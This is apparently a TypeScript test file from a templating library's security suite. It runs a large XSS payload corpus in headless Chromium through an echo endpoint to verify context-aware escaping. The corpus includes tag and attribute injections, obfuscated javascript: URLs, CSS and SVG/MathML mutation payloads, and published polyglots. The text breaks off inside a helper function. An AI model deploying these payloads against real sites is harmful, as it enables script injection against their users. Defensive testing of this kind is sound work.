/**
 * Context-aware autoescaping, judged by the browser that would run an injection:
 * headless Chromium posts a corpus of XSS payloads, built from the escape-bypass
 * classes B1–B30 of the templating research (§4), through the reference app's
 * `POST /echo`, which renders each one back into element text, a quoted attribute,
 * the start of a URL attribute, a URL after a static prefix and another form's field.
 *
 * Each payload goes into the app's own echo form (its CSRF field included; the
 * message field swapped for a textarea, which keeps CR and LF) and is submitted: a
 * real navigation, a real response. On the page that comes back every event is fired
 * on every element, and `#link` is clicked with the mouse, while three oracles
 * listen: a beacon function the payloads call (`__xss(id)`), dialogs (the payloads
 * that call `alert(id)`), and CSP violation events. The app runs with its default
 * CSP, and with the CSP turned off so that escaping alone is tested.
 *
 * The page must also say back exactly what was sent (the text, the attribute values,
 * the percent-encoded query), keep the shape of a benign echo (no element, attribute
 * or comment more), and carry one nonce and one CSRF field whatever NUL (the
 * engine's marker character) or U+FDD0 (the marker before) the payload holds.
 *
 * The whole corpus runs on the node:http app; a sample of every class on the others.
 * A control serves payloads through a naive template (no escaping) and shows every
 * oracle and trigger catching them, so no assertion passes because nothing was observed.
 */

import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Browser, BrowserContext, Frame, Request as BrowserRequest, Response } from 'playwright-core';
import type { RampartOptions } from 'rampart';
import { launchChromium } from '../support/browser.ts';
import { ADAPTERS, startTarget, testOptions, type Target } from '../support/targets.ts';

// ---------------------------------------------------------------------------------------------
// The corpus
// ---------------------------------------------------------------------------------------------

/** One payload: its beacon id, the bypass class it comes from, and the text posted. */
interface Payload {
  readonly id: number;
  readonly group: string;
  readonly text: string;
}

/**
 * Makes a payload from the call expression of its beacon (`__xss(7)` or `alert(7)`)
 * and its id. A document of an opaque origin (a `data:` frame) can reach neither, so
 * its payloads request `http://beacon.test/<id>` instead (see `remoteBeacon`).
 */
type Vector = (beacon: string, id: number) => string;

/** The host a payload in an opaque-origin frame requests to report that it ran; the tab intercepts it. */
const BEACON_HOST = 'beacon.test';

/** The beacon of a document that shares nothing with the page: a request the tab sees. */
function remoteBeacon(id: number): string {
  return `fetch('http://${BEACON_HOST}/${id}')`;
}

/** The bypass classes, each with its vectors; research/templating.md §4 names them. */
const GROUPS: readonly (readonly [string, readonly Vector[]])[] = [
  ['B1/B8/B11 tag injection', tagInjections()],
  ['B2/B12/B21/B22 breakouts', breakouts()],
  ['B3/B4/B10 attribute injection', attributeInjections()],
  ['B6/B7 URL schemes', urlSchemes()],
  ['B9 srcset and refresh values', srcsetValues()],
  ['B12–B19 script contexts', scriptContexts()],
  ['B20 CSS', cssPayloads()],
  ['B23 SVG, MathML and mXSS', foreignContent()],
  ['B7/B10/B28 encodings', encodings()],
  ['marker characters', markerPayloads()],
  ['NUL, newlines and odd code points', oddCodePoints()],
  ['B24–B27 template and type confusion', templateConfusion()],
  ['B29 dangling markup', danglingMarkup()],
  ['B30 polyglots', polyglots()],
];

/** Every shape a text-context injection takes: elements that run script by themselves, on an event, or from a URL. */
function tagInjections(): Vector[] {
  return [
    (b) => `<script>${b}</script>`,
    (b) => `<SCRIPT>${b}</SCRIPT>`,
    (b) => `<ScRiPt>${b}</sCrIpT>`,
    (b) => `<script >${b}</script >`,
    (b) => `<script/x>${b}</script>`,
    (b) => `<script\t>${b}</script>`,
    (b) => `<script src="data:text/javascript,${b}"></script>`,
    (b) => `<script src=data:,${b}></script>`,
    (b) => `<script>${b}//`,
    (b) => `<<script>${b}//<</script>`,
    (b) => `<script type="module">${b}</script>`,
    (b) => `<img src=x onerror=${b}>`,
    (b) => `<img src="x" onerror="${b}">`,
    (b) => `<img src='x' onerror='${b}'>`,
    (b) => `<IMG SRC=x ONERROR=${b}>`,
    (b) => `<img/src=x/onerror=${b}>`,
    (b) => `<img src=x onerror\t=\t${b}>`,
    (b) => `<img src=x:x onerror=${b}//`,
    (b) => `<img src onerror=${b}>`,
    (b) => `<image src=x onerror=${b}>`,
    (b) => `<img src=x onerror="javascript:${b}">`,
    (b) => `<img """><script>${b}</script>">`,
    (b) => `<img src="javascript:${b}">`,
    (b) => `<input type=image src=x onerror=${b}>`,
    (b) => `<svg onload=${b}>`,
    (b) => `<svg/onload=${b}>`,
    (b) => `<body onload=${b}>`,
    (b) => `<body onpageshow=${b}>`,
    (b) => `<frameset onload=${b}>`,
    (b) => `<iframe src="javascript:${b}"></iframe>`,
    (b) => `<iframe srcdoc="<script>parent.${b}</script>"></iframe>`,
    (b) => `<iframe srcdoc="&lt;img src=x onerror=parent.${b}&gt;"></iframe>`,
    (b) => `<iframe onload=${b}></iframe>`,
    (_, id) => `<iframe src="data:text/html,<script>${remoteBeacon(id)}</script>"></iframe>`,
    (b) => `<object data="javascript:${b}"></object>`,
    (_, id) => `<object data="data:text/html,<script>${remoteBeacon(id)}</script>"></object>`,
    (b) => `<object type="text/x-scriptlet" data="javascript:${b}"></object>`,
    (b) => `<embed src="javascript:${b}">`,
    (_, id) => `<embed src="data:text/html,<script>${remoteBeacon(id)}</script>">`,
    (b) => `<details open ontoggle=${b}>`,
    (b) => `<input autofocus onfocus=${b}>`,
    (b) => `<input onblur=${b} autofocus><input autofocus>`,
    (b) => `<select autofocus onfocus=${b}></select>`,
    (b) => `<textarea autofocus onfocus=${b}></textarea>`,
    (b) => `<keygen autofocus onfocus=${b}>`,
    (b) => `<div contenteditable autofocus onfocus=${b}>x</div>`,
    (b) => `<custom-tag tabindex=1 autofocus onfocus=${b}>x</custom-tag>`,
    (b) => `<video><source onerror=${b}></video>`,
    (b) => `<video src=x onerror=${b}></video>`,
    (b) => `<audio src=x onerror=${b}></audio>`,
    (b) => `<marquee onstart=${b}>x</marquee>`,
    (b) => `<div onmouseover=${b}>x</div>`,
    (b) => `<div onclick=${b}>x</div>`,
    (b) => `<div onpointerenter=${b}>x</div>`,
    (b) => `<x onclick=${b}>click</x>`,
    (b) => `<html onmouseover=${b}>`,
    (b) => `<a href="javascript:${b}">x</a>`,
    (b) => `<a href=javascript:${b}>x</a>`,
    (b) => `<a onclick=${b} href=#>x</a>`,
    (b) => `<a id=link href="javascript:${b}">a second #link</a>`,
    (b) => `<a href="x" ping="javascript:${b}">x</a>`,
    (b) => `<form action="javascript:${b}"><button>x</button></form>`,
    (b) => `<form><button formaction="javascript:${b}">x</button></form>`,
    (b) => `<form id=f></form><button form=f formaction="javascript:${b}">x</button>`,
    (b) => `<isindex action="javascript:${b}" type=image>`,
    (b) => `<dialog open onclose=${b}><form method=dialog><button>x</button></form></dialog>`,
    (b) => `<button popovertarget=p>x</button><div popover id=p onbeforetoggle=${b}>x</div>`,
    (b) => `<link rel=stylesheet href="javascript:${b}">`,
    (b) => `<link rel=import href="data:text/html,<script>${b}</script>">`,
    (b) => `<meta http-equiv="refresh" content="0;url=javascript:${b}">`,
    (b) => `<base href="javascript:${b}//">`,
    (b) => `<template><img src=x onerror=${b}></template>`,
    (b) => `<div><template shadowrootmode="open"><img src=x onerror=${b}></template></div>`,
    (b) => `<div><template shadowrootmode=open><slot onmouseover=${b}>x</slot></template></div>`,
    (b) => `<portal src="javascript:${b}"></portal>`,
    (b) => `<table><td background="javascript:${b}">x</td></table>`,
    // Clobbers the name of the beacon in the handler's scope; window's own property still reports.
    (b) => `<img name=__xss src=x onerror=window.${b}>`,
    (b) => `<form id=message onmouseover=${b}><input name=textContent></form>`,
  ];
}

/** Closing whatever the value might sit in (quotes, elements, comments, CDATA) before a tag. */
function breakouts(): Vector[] {
  const prefixes = [
    '"', "'", '">', "'>", '"/>', "'/>", '">\n', '`>', '></a>', '"></a>', "'></a>", '</p>', '</a>', '</title>',
    '</textarea>', '</style>', '</script>', '</xmp>', '</noscript>', '</iframe>', '</noembed>', '-->', '--!>', ']]>',
    '"]]>', '</form>', '"><!--', "' --></script>", '</select>', '</option>',
  ];
  const tags: Vector[] = [
    (b) => `<img src=x onerror=${b}>`,
    (b) => `<svg onload=${b}>`,
    (b) => `<script>${b}</script>`,
    (b) => `<input autofocus onfocus=${b}>`,
  ];
  // Each prefix with two of the tags, in turn.
  return prefixes.flatMap((prefix, index) => [tags[index % tags.length]!, tags[(index + 1) % tags.length]!].map((tag): Vector => (b, id) => prefix + tag(b, id)));
}

/** Attribute injection as unquoted, single-, double- and backtick-quoted values would allow it. */
function attributeInjections(): Vector[] {
  const quotes = ['', '"', "'", '`', '"/', "'/", '"\t', '"\n', '"\f', '"\r', "'\n"];
  const shapes: ((quote: string, b: string) => string)[] = [
    (q, b) => `x${q} onmouseover=${b} y=${q}`,
    (q, b) => `${q} autofocus onfocus=${b} x=${q}`,
    (q, b) => `${q}onclick=${b}//`,
    (q, b) => `x${q}/onpointerover=${b}/`,
    (q, b) => `=${q} onfocus=${b} autofocus `,
  ];
  // Each quote with three of the shapes, in turn.
  const injections = quotes.flatMap((quote, index) => [0, 1, 2].map((offset): Vector => (b) => shapes[(index + offset) % shapes.length]!(quote, b)));
  return [
    ...injections,
    (b) => `" style="animation-name:x" onanimationstart="${b}`,
    (b) => `' accesskey='x' onclick='${b}`,
    (b) => `" href="javascript:${b}`,
    (b) => `" src=x onerror="${b}`,
    (b) => `x" type="image" src="x" onerror="${b}`,
    (b) => `&#34; onmouseover=&#34;${b}`,
    (b) => `&quot; onmouseover=&quot;${b}`,
    (b) => `&#39; onmouseover=&#39;${b}`,
    (b) => `&#x22;&#x3E;&#x3C;img src=x onerror=${b}&#x3E;`,
    (b) => `\\" onmouseover=\\"${b}`,
  ];
}

/** `javascript:`, `vbscript:` and `data:` URLs with the obfuscations browsers forgive (B7). */
function urlSchemes(): Vector[] {
  const entities = (text: string, form: (code: number) => string): string => [...text].map((character) => form(character.charCodeAt(0))).join('');
  const obfuscations: ((scheme: string, rest: string) => string)[] = [
    (s, r) => `${s}:${r}`,
    (s, r) => `${s.toUpperCase()}:${r}`,
    (s, r) => `${[...s].map((c, i) => (i % 2 ? c.toUpperCase() : c)).join('')}:${r}`,
    (s, r) => ` ${s}:${r}`,
    (s, r) => `   ${s}:${r}`,
    (s, r) => `\t${s}:${r}`,
    (s, r) => `\n${s}:${r}`,
    (s, r) => `\r\n ${s}:${r}`,
    (s, r) => `\u0001${s}:${r}`,
    (s, r) => `\u0000${s}:${r}`,
    (s, r) => `\u001f${s}:${r}`,
    (s, r) => `\u000b${s}:${r}`,
    (s, r) => `\u00a0${s}:${r}`,
    (s, r) => `\ufeff${s}:${r}`,
    (s, r) => `${s.slice(0, 3)}\t${s.slice(3)}:${r}`,
    (s, r) => `${s.slice(0, 3)}\n${s.slice(3)}:${r}`,
    (s, r) => `${s.slice(0, 3)}\r${s.slice(3)}:${r}`,
    (s, r) => `${s.slice(0, 3)}\u0000${s.slice(3)}:${r}`,
    (s, r) => `${s}\t:${r}`,
    (s, r) => `${s.slice(0, 3)}&#x09;${s.slice(3)}:${r}`,
    (s, r) => `${s.slice(0, 3)}&#9;${s.slice(3)}:${r}`,
    (s, r) => `${s.slice(0, 3)}&Tab;${s.slice(3)}:${r}`,
    (s, r) => `${s.slice(0, 3)}&NewLine;${s.slice(3)}:${r}`,
    (s, r) => `&#${s.charCodeAt(0)};${s.slice(1)}:${r}`,
    (s, r) => `&#x${s.charCodeAt(0).toString(16).toUpperCase()};${s.slice(1)}:${r}`,
    (s, r) => `${entities(s, (code) => `&#x${code.toString(16)}`)}&#x3a${r}`,
    (s, r) => `${entities(s, (code) => `&#000${code}`)}&#0000058${r}`,
    (s, r) => `${s}&colon;${r}`,
    (s, r) => `${s}&#58;${r}`,
    (s, r) => `${s}&#x3A;${r}`,
    (s, r) => `${s}%3A${r}`,
    (s, r) => `%${s.charCodeAt(0).toString(16)}${s.slice(1)}:${r}`,
    (s, r) => `${s}\uff1a${r}`,
    (s, r) => `${s}:${encodeURIComponent(r)}`,
    (s, r) => `${s}://%0a${r}`,
    (s, r) => `${s}:/*http://x*/${r}`,
    (s, r) => `${s}:${r}//http://example.com/`,
    (s, r) => `\\u00${s.charCodeAt(0).toString(16)}${s.slice(1)}:${r}`,
    (s, r) => `http:${s}:${r}`,
    (s, r) => `https:${s}:${r}`,
    (s, r) => `//${s}:${r}`,
    (s, r) => `/${s}:${r}`,
    (s, r) => `?${s}:${r}`,
    (s, r) => `#${s}:${r}`,
  ];
  // `javascript:` with every obfuscation; `vbscript:` and `data:` with every third.
  const schemes: [string, Vector, number][] = [
    ['javascript', (b) => b, 1],
    ['vbscript', (b) => b, 3],
    ['data', (_, id) => `text/html,<script>${remoteBeacon(id)}</script>`, 3],
  ];
  return [
    ...schemes.flatMap(([scheme, rest, step]) =>
      obfuscations.filter((_, index) => index % step === 0).map((obfuscate): Vector => (b, id) => obfuscate(scheme, rest(b, id))),
    ),
    (_, id) => `data:text/html;base64,${btoa(`<script>${remoteBeacon(id)}</script>`)}`,
    (b) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${b}"/>`,
    (b) => `data:text/javascript,${b}`,
    (b) => `javascript:void(0);${b}`,
    (b) => `javascript:\u2028${b}`,
    (b) => `livescript:${b}`,
    (b) => `mocha:${b}`,
    (b) => `blob:javascript:${b}`,
    (b) => `about:javascript:${b}`,
    (b) => `mailto:x@example.com?body=<script>${b}</script>`,
    (b) => `tel:+1<img src=x onerror=${b}>`,
    (b) => `https://example.com/"><img src=x onerror=${b}>`,
    (b) => `http://"onmouseover="${b}`,
  ];
}

/** URL lists and refresh values: a `srcset` candidate or `0;url=` hiding a script URL (B9). */
function srcsetValues(): Vector[] {
  return [
    (b) => `x.png 1x, javascript:${b} 2x`,
    (b) => `javascript:${b} 1x`,
    (b) => `x, javascript:${b}`,
    (b) => `data:,x 100w, javascript:${b}`,
    (b) => `,javascript:${b}`,
    (b) => `x.png 1x,javascript:${b}`,
    (b) => `x.png 1x onerror=${b}`,
    (b) => `0;url=javascript:${b}`,
    (b) => `0; URL = 'javascript:${b}'`,
    (b) => `5;url=data:text/html,<script>${b}</script>`,
  ];
}

/** What a slot in a script would break: strings, comments, template literals, regexps, line terminators (B12–B19). */
function scriptContexts(): Vector[] {
  return [
    (b) => `';${b};//`,
    (b) => `";${b};//`,
    (b) => `\\';${b};//`,
    (b) => `\\";${b};//`,
    (b) => `'-${b}-'`,
    (b) => `"-${b}-"`,
    (b) => `\`-${b}-\``,
    (b) => `\${${b}}`,
    (b) => `\`\${${b}}\``,
    (b) => `}\`;${b};\``,
    (b) => `1;${b}`,
    (b) => `-${b}-`,
    (b) => b,
    (b) => `</script><script>${b}</script>`,
    (b) => `</ScRiPt >${b}`,
    (b) => `<!--<script>${b}//-->`,
    (b) => `<!--<script>${b}</script>-->`,
    (b) => `#!/${b}`,
    (b) => `/x/;${b}//`,
    (b) => `*/${b}/*`,
    (b) => `'\u2028${b}//'`,
    (b) => `\u2029${b}`,
    (b) => `\\u0027;${b}//`,
    (b) => `\\x27;${b}//`,
    (b) => `'+${b}+'`,
    (b) => `</script ><img src=x onerror=${b}>`,
    (b) => `\\"});${b};//`,
    (b) => `'));${b};//`,
    (b) => `{"a":"</script><script>${b}</script>"}`,
    (b) => `\\u003c/script\\u003e\\u003cscript\\u003e${b}\\u003c/script\\u003e`,
  ];
}

/** CSS sinks: `</style>`, `expression()`, `url(javascript:)`, bindings and imports (B20). */
function cssPayloads(): Vector[] {
  return [
    (b) => `expression(${b})`,
    (b) => `x:expression(${b})`,
    (b) => `</style><img src=x onerror=${b}>`,
    (b) => `</STYLE><script>${b}</script>`,
    (b) => `url(javascript:${b})`,
    (b) => `@import 'javascript:${b}';`,
    (b) => `-moz-binding:url(data:,${b})`,
    (b) => `behavior:url(#default#time2);x:${b}`,
    (b) => `}body{background:url("javascript:${b}")}`,
    (b) => `\\3c/style\\3e<img src=x onerror=${b}>`,
    (b) => `e\\x\\p\\r\\e\\s\\s\\i\\o\\n(${b})`,
    (b) => `expr/**/ession(${b})`,
    (b) => `<style>*{x:expression(${b})}</style>`,
    (b) => `<style>@import 'data:,*{x:expression(${b})}';</style>`,
    (b) => `<style>*{background:url("javascript:${b}")}</style>`,
    (b) => `<style onload=${b}></style>`,
    (b) => `<div style="x:expression(${b})">x</div>`,
    (b) => `<div style="background-image:url(javascript:${b})">x</div>`,
    (b) => `<div style="behavior:url(x.htc);-moz-binding:url(x.xml#${b})">x</div>`,
    (b) => `<style>@keyframes k{}</style><div style="animation-name:k" onanimationstart=${b}>x</div>`,
  ];
}

/** Foreign content and mutation XSS: markup that parses differently inside SVG or MathML (B23). */
function foreignContent(): Vector[] {
  return [
    (b) => `<svg><script>${b}</script></svg>`,
    (b) => `<svg><script href="data:,${b}"/></svg>`,
    (b) => `<svg><animate onbegin=${b} attributeName=x dur=1s>`,
    (b) => `<svg><set attributeName=onmouseover to=${b}>`,
    (b) => `<svg><a xlink:href="javascript:${b}"><text y=20>x</text></a></svg>`,
    (b) => `<svg><a href="javascript:${b}"><rect width=100 height=100 /></a></svg>`,
    (b) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${b}'/></svg>#x"/></svg>`,
    (b) => `<svg><foreignObject><iframe onload=${b}></iframe></foreignObject></svg>`,
    (b) => `<svg><style><img src=x onerror=${b}></style></svg>`,
    (b) => `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${b}//"></svg>`,
    (b) => `<svg></p><style><a id="</style><img src=1 onerror=${b}>">`,
    (b) => `<math><mtext><table><mglyph><style><img src=x onerror=${b}>`,
    (b) => `<math href="javascript:${b}">x</math>`,
    (b) => `<math><maction actiontype="statusline" xlink:href="javascript:${b}">x</maction></math>`,
    (b) => `<math><mi xlink:href="data:x,<script>${b}</script>">x</mi></math>`,
    (b) => `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${b} src=1>">`,
    (b) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${b}>`,
    (b) => `<noscript><p title="</noscript><img src=x onerror=${b}>">`,
    (b) => `<xmp><img src=x onerror=${b}></xmp>`,
    (b) => `<plaintext><img src=x onerror=${b}>`,
    (b) => `<noembed><img src=x onerror=${b}></noembed>`,
    (b) => `<noframes><img src=x onerror=${b}></noframes>`,
    (b) => `<textarea><img src=x onerror=${b}></textarea>`,
    (b) => `<title><img src=x onerror=${b}></title>`,
    (b) => `<!--<img src="--><img src=x onerror=${b}//">`,
    (b) => `<![CDATA[<img src=x onerror=${b}>]]>`,
  ];
}

/** References and encodings that a decoder somewhere might turn back into markup (B7, B10, B28). */
function encodings(): Vector[] {
  return [
    (b) => `&lt;img src=x onerror=${b}&gt;`,
    (b) => `&#60;img src=x onerror=${b}&#62;`,
    (b) => `&#x3C;script&#x3E;${b}&#x3C;/script&#x3E;`,
    (b) => `&#0000060script>${b}</script>`,
    (b) => `&LT;script&GT;${b}&LT;/script&GT;`,
    (b) => `&quot;&gt;&lt;img src=x onerror=${b}&gt;`,
    (b) => `&#39;);${b};//`,
    (b) => `&amp;lt;script&amp;gt;${b}&amp;lt;/script&amp;gt;`,
    (b) => `&#x26;lt;script&#x26;gt;${b}`,
    (b) => `%3Cscript%3E${b}%3C/script%3E`,
    (b) => `%253Cscript%253E${b}%253C/script%253E`,
    (b) => `\\u003cscript\\u003e${b}\\u003c/script\\u003e`,
    (b) => `\\x3cscript\\x3e${b}\\x3c/script\\x3e`,
    (b) => `+ADw-script+AD4-${b}+ADw-/script+AD4-`,
    (b) => `\u00bcscript\u00be${b}\u00bc/script\u00be`,
    (b) => `\uff1cscript\uff1e${b}\uff1c/script\uff1e`,
    (b) => `\u2039script\u203a${b}\u2039/script\u203a`,
    (b) => `\u02c2script\u02c3${b}`,
    (b) => `<\u0000script>${b}</script>`,
    (b) => `&#x3C;svg onload=${b}&#x3E;`,
  ];
}

/**
 * NUL is the engine's own marker: `\0N` becomes the nonce, `\0F` a CSRF field, but never
 * from data. U+FDD0, the marker before, stays in the list: it must be plain text too.
 */
function markerPayloads(): Vector[] {
  return ['\0', '\uFDD0'].flatMap((m): Vector[] => [
    // A lone NUL is among the odd code points already.
    ...(m === '\0' ? [] : [() => m]),
    () => `${m}N`,
    () => `${m}F`,
    () => `${m}N${m}F`,
    () => `${m}F${m}F${m}F`,
    () => `${m}${m}NN`,
    (b) => `<script nonce="${m}N">${b}</script>`,
    () => `<style nonce="${m}N">*{color:red}</style>`,
    () => `<form method="post" action="/echo">${m}F<button>x</button></form>`,
    (b) => `" nonce="${m}N" onmouseover="${b}`,
    (b) => `javascript:${m}N${b}`,
    (b) => `${m}N:${b}`,
    () => `/?q=${m}F`,
    (b) => `</p>${m}F<script nonce="${m}N">${b}</script>`,
  ]).concat([() => '&#xFDD0;N', () => '&#64976;F', () => '&#0;N', () => '&#x0;F', () => '&#00;F'])
}

/** NUL (becomes U+FFFD), CR and LF, JS line terminators, a lone surrogate, astral and C1 characters. */
function oddCodePoints(): Vector[] {
  return [
    () => '',
    () => ' ',
    () => '\u0000',
    (b) => `\u0000<img src=x onerror=${b}>`,
    (b) => `<scr\u0000ipt>${b}</scr\u0000ipt>`,
    (b) => `<img src=x on\u0000error=${b}>`,
    (b) => `"\u0000 onmouseover=${b} x="`,
    () => '\u2028',
    () => '\u2029',
    (b) => `\u2028<img src=x onerror=${b}>`,
    (b) => `\r\n<img src=x onerror=${b}>`,
    (b) => `\r<img src=x onerror=${b}>`,
    () => '\n\n\r\r\n',
    (b) => `\uD800<img src=x onerror=${b}>`,
    (b) => `<img src=x onerror=${b}>\uDC00`,
    (b) => `\u{1F600}<img src=x onerror=${b}>`,
    (b) => `\ufeff<script>${b}</script>`,
    (b) => `\u0085<img src=x onerror=${b}>`,
    () => '\u0080\u0081\u009f\u00ad\u200b\u200e\u202e',
    (b) => `\u202e>rcs=x gmi<${b}`,
  ];
}

/** Template syntax of other engines, and the strings type confusion produces (B24–B27). */
function templateConfusion(): Vector[] {
  return [
    (b) => `{{constructor.constructor('${b}')()}}`,
    (b) => `<%= ${b} %>`,
    (b) => `#{${b}}`,
    (b) => `{% ${b} %}`,
    (b) => `@{${b}}`,
    () => '{{7*7}}',
    () => '[object Object]',
    (b) => `{"__html":"<img src=x onerror=${b}>"}`,
    (b) => `{"toString":"<img src=x onerror=${b}>"}`,
    (b) => `__proto__[innerHTML]=<img src=x onerror=${b}>`,
    (b) => `{{{<img src=x onerror=${b}>}}}`,
    (b) => `<!-- #include virtual="/x" --><img src=x onerror=${b}>`,
  ];
}

/** Markup that stays open and would swallow what follows (B29). */
function danglingMarkup(): Vector[] {
  return [
    () => "<img src='http://x.invalid/?",
    () => '<a href="',
    () => '<textarea>',
    () => '<plaintext>',
    () => '<base href="http://x.invalid/">',
    () => '<form action=http://x.invalid/><button>',
    () => '"',
    () => "'",
    () => '<',
    () => '<!--',
    () => '<![CDATA[',
    () => '<select><option>',
    () => "<meta http-equiv=refresh content='0;url=http://x.invalid/?",
    () => "<table background='//x.invalid/?",
    () => "<style>@import '//x.invalid/?",
    () => '<!',
    () => '<svg><desc><![CDATA[',
  ];
}

/** Payloads written to break out of every context at once (B30). */
function polyglots(): Vector[] {
  return [
    // 0xsobky's "Ultimate XSS Polyglot", as published and with real angle brackets.
    (b) => `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${b} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${b}//>\\x3e`,
    (b) => `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${b} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=${b}//>>`,
    // Gareth Heyes and Mathias Bynens' polyglot.
    (b) => `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${b}//'>`,
    // The OWASP filter-evasion locators.
    (b) => `';${b}//';${b}//";${b}//";${b}//--></SCRIPT>">'><SCRIPT>${b}</SCRIPT>`,
    (b) => `'">><marquee><img src=x onerror=${b}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${b}><script>${b}</script>@gmail.com<isindex formaction=javascript:${b} type=submit>'-->"></script><script>${b}</script>"><img/id="confirm&lpar;1)"/alt="/"src="/"onerror=eval(id&%23x29;>'">`,
    (b) => `" onclick=${b}//<button ' onclick=${b}//> */ ${b}//`,
    (b) => `-->'"/></sCript><deTailS open x=">" ontoggle=${b}>`,
    (b) => `javascript://'/</title></style></textarea></script>--><p" onclick=${b}//>*/${b}/*`,
    (b) => `<svg/onload=${b}>javascript:${b}//<!--`,
    (b) => `'"--></style></script><script>${b}</script><img src=x onerror=${b}>`,
    (b) => `\${{${b}}}'"\`><img src=x onerror=${b}><!--`,
    (b) => `javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=${b}//>`,
  ];
}

/** The whole corpus, numbered from 1; every fifth payload calls `alert` instead of the beacon. */
function buildCorpus(): Payload[] {
  const payloads: Payload[] = [];
  for (const [group, vectors] of GROUPS) {
    for (const vector of vectors) {
      const id = payloads.length + 1;
      payloads.push({ id, group, text: vector(id % 5 === 0 ? `alert(${id})` : `__xss(${id})`, id) });
    }
  }
  return payloads;
}

const CORPUS = buildCorpus();

/** A sample for the other adapters: the first and the last payload of every class. */
const SAMPLE = GROUPS.flatMap(([group]) => {
  const members = CORPUS.filter((payload) => payload.group === group);
  return [...new Set([members[0], members[members.length - 1]])].filter((payload) => payload !== undefined);
});

// ---------------------------------------------------------------------------------------------
// What the page must say back
// ---------------------------------------------------------------------------------------------

/** What `filterUrl` puts in place of a URL whose scheme is not allowed. */
const INVALID_URL = 'about:invalid#rampart';
/** The protocols a followed `#link` may have; `:` is what the browser says of a URL it cannot parse (inert). */
const INERT_OR_ALLOWED_PROTOCOLS = new Set(['http:', 'https:', 'mailto:', 'tel:', ':']);

/**
 * What the server receives of `text` typed into a form: line breaks are sent as CRLF
 * (HTML "constructing the entry list"), and a lone surrogate as U+FFFD (UTF-8 cannot
 * encode it).
 */
function asSubmitted(text: string): string {
  return text.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD').replace(/\r\n|\r|\n/g, '\r\n');
}

/** What the DOM holds of the echoed text: the parser reads CRLF as LF, and rampart sends NUL as U+FFFD. */
function asParsed(text: string): string {
  return asSubmitted(text).replace(/\r\n/g, '\n').replace(/\0/g, '\uFFFD');
}

/** What the page's DOM says of the echo, read by `inspectEcho` in the page. */
interface EchoView {
  /** Every node but text, in document order, as `NAME[sorted attribute names]`. */
  readonly skeleton: readonly string[];
  readonly message: string | null;
  /** `#again`'s value attribute (the `value` property of an input drops line breaks). */
  readonly again: string | null;
  readonly link: string | null;
  /** `#link`'s `protocol` as the browser resolves it. */
  readonly linkProtocol: string;
  readonly search: string | null;
  /** The `value` attribute of the echo form's message field. */
  readonly field: string | null;
  readonly csrfFields: number;
}

/** Runs in the page: reads the echo back from the DOM. */
function inspectEcho(): EchoView {
  const skeleton: string[] = [];
  const walker = document.createTreeWalker(document, NodeFilter.SHOW_ALL);
  for (let node: Node | null = walker.currentNode; node !== null; node = walker.nextNode()) {
    if (node.nodeType === Node.TEXT_NODE) continue;
    const names = node instanceof Element ? [...node.attributes].map((attribute) => attribute.name).sort().join(' ') : '';
    skeleton.push(`${node.nodeName}[${names}]${node instanceof Element && node.shadowRoot ? ' with a shadow root' : ''}`);
  }
  const link = document.querySelector<HTMLAnchorElement>('#link');
  return {
    skeleton,
    message: document.querySelector('#message')?.textContent ?? null,
    again: document.querySelector('#again')?.getAttribute('value') ?? null,
    link: link?.getAttribute('href') ?? null,
    linkProtocol: link?.protocol ?? '',
    search: document.querySelector('#search')?.getAttribute('href') ?? null,
    field: document.querySelector('form[action="/echo"] input[name="message"]')?.getAttribute('value') ?? null,
    csrfFields: document.querySelectorAll('input[name="csrf_token"]').length,
  };
}

/** What is wrong with the echo of `text` in the DOM, compared with a benign echo's skeleton. */
function viewFindings(view: EchoView, text: string, skeleton: readonly string[]): string[] {
  const findings: string[] = [];
  const expected = asParsed(text);
  if (JSON.stringify(view.skeleton) !== JSON.stringify(skeleton)) {
    const added = view.skeleton.filter((node, index) => skeleton[index] !== node);
    findings.push(`the page's nodes differ from a benign echo's (from: ${JSON.stringify(added.slice(0, 4))})`);
  }
  if (view.message !== expected) findings.push(`#message text is ${JSON.stringify(view.message)}`);
  if (view.again !== expected) findings.push(`#again value is ${JSON.stringify(view.again)}`);
  if (view.field !== expected) findings.push(`the echo form's message value is ${JSON.stringify(view.field)}`);
  if (view.link !== INVALID_URL && (view.link !== expected || !INERT_OR_ALLOWED_PROTOCOLS.has(view.linkProtocol))) {
    findings.push(`#link href is ${JSON.stringify(view.link)} (protocol ${view.linkProtocol})`);
  }
  const search = `/?q=${encodeURIComponent(asSubmitted(text))}`;
  if (view.search !== search) findings.push(`#search href is ${JSON.stringify(view.search)}, not ${JSON.stringify(search)}`);
  if (view.csrfFields !== 1) findings.push(`${view.csrfFields} csrf_token fields in the DOM`);
  return findings;
}

/** The page's markers, checked in the body as sent: one nonce (the `<style>`'s, the CSP's) and one CSRF field. */
function markerFindings(body: string, csp: string | undefined): string[] {
  const findings: string[] = [];
  const nonce = /<style nonce="([^"]+)">/.exec(body)?.[1];
  if (nonce === undefined) return ['the page has no <style nonce="…">'];
  const uses = body.split(nonce).length - 1;
  if (uses !== 1) findings.push(`the nonce appears ${uses} times in the body`);
  if (csp !== undefined && !csp.includes(`'nonce-${nonce}'`)) findings.push('the CSP does not carry the nonce of the <style>');
  const fields = body.match(/name="csrf_token"/g)?.length ?? 0;
  if (fields !== 1) findings.push(`${fields} csrf_token fields in the body`);
  // NUL, the engine's marker, never reaches a page: data's NUL is escaped to U+FFFD.
